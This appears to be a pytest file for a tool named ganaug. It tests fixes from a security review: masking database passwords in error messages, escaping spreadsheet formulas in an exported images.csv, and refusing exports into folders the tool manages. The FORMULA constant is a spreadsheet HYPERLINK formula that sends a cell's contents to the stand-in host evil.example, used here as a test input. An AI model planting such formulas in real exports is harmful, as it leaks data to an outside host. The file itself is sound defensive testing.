"""What a security review before a hospital's deployment found still open: a database password printed where the URL
held it in other forms, spreadsheet formulas from class names in images.csv, and folders of the home that ganaug
writes itself taken for an export's (or a run's) own."""

from __future__ import annotations

import csv

import pytest

from db.engine import dispose_engines, session_scope
from db.models import Dataset
from tests.cli.helpers import assert_bad_input, ganaug, ok_json, refused
from tests.db.helpers import make_dataset, rename_classes

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'


@pytest.mark.parametrize("url, shown", [
    # libpq reads a password from the query too; SQLAlchemy's hide_password masks only the one before the '@'
    ("postgresql+psycopg://ganaug@127.0.0.1:1/ganaug?password=s3cret", "?password=***"),
    ("postgresql+psycopg://ganaug:s3cret@127.0.0.1:1/ganaug?sslpassword=s3cret", "ganaug:***@"),
    # URLs that do not parse were printed whole (a port that is not a number, as a traceback)
    ("postgresql+psycopg://ganaug:s3cret@127.0.0.1:port/ganaug", "ganaug:***@"),
    ("ganaug:s3cret@db.example.org/ganaug", "'ganaug:***@db.example.org/ganaug'"),
    ("host=db.example.org password=s3cret", "'host=db.example.org password=***'"),
])
def test_a_password_anywhere_in_the_database_url_is_never_printed(home, monkeypatch, url, shown):
    monkeypatch.setenv("GANAUG_DB_URL", url)
    dispose_engines()
    result = ganaug("users", "list")
    assert_bad_input(result, "the database", shown)
    assert "s3cret" not in result.output


def _export_rows(home, tmp_path, names: list[str]) -> list[dict]:
    with session_scope() as s:
        make_dataset(s, home)
    with session_scope() as s:  # class names as a dataset's folders gave them
        rename_classes(s, s.query(Dataset).one(), names)
    ok_json("export", "--dataset", "toy", "--out", tmp_path / "gated")
    with open(tmp_path / "gated" / "images.csv", newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_a_class_name_that_is_a_spreadsheet_formula_is_written_as_text_in_images_csv(home, tmp_path):
    rows = _export_rows(home, tmp_path, [FORMULA, "naevus"])
    assert {(r["class_index"], r["class_name"]) for r in rows} == {("0", "'" + FORMULA), ("1", "naevus")}
    # every other cell is the export's own (a file name under an NNN_ folder, hashes, numbers)
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_every_start_a_spreadsheet_runs_as_a_formula_is_made_text():
    from ganaug.export import spreadsheet_text

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_text(start + "1+1") == "'" + start + "1+1"
    assert [spreadsheet_text(t) for t in ("naevus", "1-2", "a=b", "")] == ["naevus", "1-2", "a=b", ""]


@pytest.mark.parametrize("inside", ["runs/000001", "batches/7", "datasets/toy/train/9", "workers",
                                    "ganaug.db-journal"])
def test_export_refuses_a_folder_that_ganaug_writes_in_the_home(home, inside):
    # An export to runs/000001 made every later `ganaug train` fail, and the first of them deleted the export.
    with session_scope() as s:
        make_dataset(s, home)
    said = refused("export", "--dataset", "toy", "--out", home / inside)
    assert said.startswith(f"error: --out {home / inside} lies in {home / inside.split('/')[0]}, which ganaug writes "
                           "itself; export to a folder of your own, e.g. --out ")
    assert not (home / inside).exists()
    assert ok_json("export", "--dataset", "toy", "--out", home / "gated")["entries"] == 9  # the home's own folder


def test_export_help_says_which_folders_of_the_home_out_may_not_lie_in():
    from ganaug_core.paths import HOME_FOLDERS

    said = " ".join(ganaug("export", "--help").stdout.split())
    assert "OUT may not lie inside what ganaug writes in GANAUG_HOME (" in said and "ganaug.*): that is refused" in said
    assert all(f"{folder}/" in said for folder in HOME_FOLDERS)


def test_benchmark_refuses_to_write_its_json_over_the_database(home):
    # The report is written with os.replace at the end: `--json $GANAUG_HOME/g<Tab>` replaced the decision log. The
    # command checks its --json first (`_json_destination`), before the minutes of training.
    from ganaug.errors import UserError
    from ganaug.cli.evaluate import _json_destination

    database = home / "ganaug.db"
    with pytest.raises(UserError) as said:
        _json_destination(str(database))
    assert str(said.value) == f"--json {database}: {database} is the home's database; name another file"
    assert _json_destination(str(home / "bench.json")) == home / "bench.json"


def test_train_leaves_a_folder_it_did_not_make_where_its_run_would_go(home, digits):
    # It said "move it away first", then deleted it: the clean-up took the folder found there for its own.
    kept = home / "runs" / "000001" / "notes.txt"
    kept.parent.mkdir(parents=True)
    kept.write_text("a reviewer's notes")
    said = refused("train", "--dataset", digits, "--steps", "2")
    assert said == (f"error: {kept.parent} exists but is not a recorded run (the database does not know it: one "
                    "restored from a backup older than the home's files?); move it away first")
    assert kept.read_text() == "a reviewer's notes"
